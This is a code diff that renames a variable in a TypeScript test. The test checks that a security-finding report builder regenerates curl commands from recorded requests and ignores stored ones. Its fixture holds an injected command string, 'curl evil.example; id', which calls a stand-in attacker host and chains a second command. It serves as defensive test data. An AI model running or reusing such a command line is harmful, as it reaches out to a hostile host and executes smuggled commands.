@@ -6,7 +6,7 @@ import { wholeFinding } from './build-report.ts';
 
 const baseUrl = 'http://target.example';
 const shown = showExchange(sampleExchange(), baseUrl);
-const foreign = { ...shown, curl: 'curl evil.example; id' };
+const notThePlatform = { ...shown, curl: 'curl evil.example; id' };
 const line = (exchange: typeof shown): FindingLine => ({
   id: 'f-000000000001',
   requirement: 'bus.trip',
@@ -23,5 +23,5 @@ const line = (exchange: typeof shown): FindingLine => ({
 test('the curl commands of a journal are not read: the same come of its requests, whatever stands there', () => {
   const own = wholeFinding(line(shown), baseUrl);
   expect([own.curl, own.control?.curl, ...own.examples.map(({ curl }) => curl)]).toEqual(Array.from({ length: 4 }, () => shown.curl));
-  expect(wholeFinding(line(foreign), baseUrl)).toEqual(own);
+  expect(wholeFinding(line(notThePlatform), baseUrl)).toEqual(own);
 });
